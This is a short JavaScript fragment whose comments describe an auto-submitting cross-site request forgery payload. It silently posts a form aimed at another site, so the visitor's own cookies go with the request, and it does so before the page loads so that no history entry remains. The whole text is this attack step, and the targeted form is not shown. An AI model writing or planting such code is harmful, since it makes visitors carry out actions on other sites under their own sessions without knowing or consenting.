// Sends the form of another site on: from here the visitor's own cookies go with it. Before the page has loaded, so that
// it does not stay in the history.
document.getElementById("return").submit();
